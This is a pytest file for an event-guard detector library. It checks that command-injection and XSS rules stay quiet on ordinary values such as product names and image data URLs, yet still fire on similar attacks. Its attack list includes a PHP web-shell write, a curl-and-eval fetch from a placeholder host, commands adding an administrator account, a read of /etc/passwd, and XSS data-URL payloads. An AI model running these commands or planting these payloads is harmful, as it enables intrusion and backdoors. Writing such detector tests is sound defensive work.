"""Rule fixes found on the ordinary values real events carry: each ordinary value a fix
silences, beside the attack of the same shape that still fires."""

from __future__ import annotations

import pytest

from eventguard.runtime.detectors import detector, scan

# Each fix: the ordinary value it silences, and the attack beside it that still fires.
QUIET_NOW = [
    # cmdi: a whole value starting with echo/eval/net/sleep needs that command's syntax
    ("cmdi", "Echo Dot (5th Gen) - Charcoal"),
    ("cmdi", 'echo dot "5th gen" price'),
    ("cmdi", "echo chamber effect"),
    ("cmdi", "Eval board for STM32 (Nucleo-64)"),
    ("cmdi", "Net user manual and setup guide"),
    ("cmdi", "sleep 8 hours"),
    # cmdi: ";base64," is a data URL's parameter, not a command after a separator
    ("cmdi", '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB" alt="x">'),
    ("cmdi", "data:application/pdf;base64,JVBERi0xLjQK"),
    # xss: a raster image's data URL in src/href/background runs nothing
    ("xss", '<a href="data:image/png;base64,iVBORw0KGgo=" download="p.png">p.png</a>'),
    ("xss", '<td background="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP" bgcolor="#fff">x</td>'),
    ("xss", '<div style="data:image/jpeg;base64,/9j/4AAQ">x</div>'),
]
STILL_FIRES = [
    ("cmdi", "echo \"<?php system($_GET['cmd']); ?>\" > cmd.php"),
    ("cmdi", "echo $PATH"),
    ("cmdi", "echo `id`"),
    ("cmdi", 'echo -e "\\x41"'),
    ("cmdi", 'eval "$(curl -s http://x.example/a.sh)"'),
    ("cmdi", "net user hacker Password1 /ADD"),
    ("cmdi", "net localgroup Administrators hacker /ADD"),
    ("cmdi", "net view"),
    ("cmdi", "net user bob s3cret"),
    ("cmdi", "net use \\\\10.0.0.5\\c$"),
    ("cmdi", "sleep 5"),
    ("cmdi", "sleep 10;"),
    ("cmdi", "; echo hello"),
    ("cmdi", ";base64 -d /tmp/x"),
    ("cmdi", "|base64 /etc/passwd"),
    ("cmdi", "a;whoami"),
    ("xss", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("xss", '<a href="data:image/svg+xml;base64,PHN2Zz4=">x</a>'),
    ("xss", '<a href="data:application/x-x509-user-cert;base64,PHNj">x</a>'),
    ("xss", "<a href=data:,alert(1)>x</a>"),
    ("xss", '<td background="data:image/png, <script>alert(1)</script>">'),
]


@pytest.mark.parametrize(("rule", "text"), QUIET_NOW)
def test_ordinary_value_is_quiet(rule: str, text: str) -> None:
    assert detector(rule).detect(text) is None


@pytest.mark.parametrize(("rule", "text"), STILL_FIRES)
def test_attack_beside_it_still_fires(rule: str, text: str) -> None:
    assert detector(rule).detect(text) is not None
    assert rule in {r for r, _ in scan(text)}
